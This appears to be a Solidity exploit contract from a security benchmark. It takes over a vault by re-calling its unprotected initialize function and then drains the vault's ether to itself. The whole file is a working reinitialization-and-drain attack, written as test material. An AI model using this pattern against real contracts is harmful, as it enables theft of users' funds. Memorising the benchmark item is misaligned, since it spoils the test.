// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

interface IOperatorVault {
    function initialize(address operator_) external;
    function relocate(address to, uint256 amount) external;
}

/// @title OperatorHijacker
/// @notice Benchmark attacker of `OperatorEthVault`: re-runs its unguarded `initialize` to become
/// the operator, then relocates the vault's ether here. The loot stays here.
contract OperatorHijacker {
    address public immutable owner;
    IOperatorVault public immutable vault;

    error NotOwner(address caller);

    constructor(IOperatorVault vault_) {
        owner = msg.sender;
        vault = vault_;
    }

    function takeOver() external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        vault.initialize(address(this));
    }

    function drain(uint256 amount) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        uint256 available = address(vault).balance;
        vault.relocate(address(this), amount < available ? amount : available);
    }

    receive() external payable {}
}
